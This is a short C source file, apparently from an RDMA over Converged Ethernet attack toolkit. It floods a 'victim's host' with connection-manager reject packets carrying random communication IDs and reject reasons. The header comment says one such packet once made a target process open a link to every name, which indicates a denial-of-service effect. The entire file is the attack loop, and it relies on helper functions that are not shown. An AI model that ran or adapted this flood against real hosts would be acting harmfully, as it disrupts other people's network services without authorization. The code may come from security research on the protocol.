/*
 * Sends rejections that name no conversation. With `names` on the victim's host, one of them once
 * made a process open a link to every name.
 *
 * usage: rejections SECONDS FROM TO
 */
#include "roce.h"

int main(int argc, char **argv)
{
	static struct sender sender;

	if (argc != 4)
		return 2;
	begin_attack(argv[1]);
	open_sender(&sender, argv[2], argv[3]);
	while (goes_on()) {
		unsigned char *rej = put_mad(&sender, CM_REJ);

		put(rej, draw(&sender), 4);
		put(rej + 8, draw(&sender) % 3 << 14, 2);
		put(rej + 10, draw(&sender) % 36, 2);
		launch_mad(&sender);
		usleep(500);
	}
	tell();
	return 0;
}
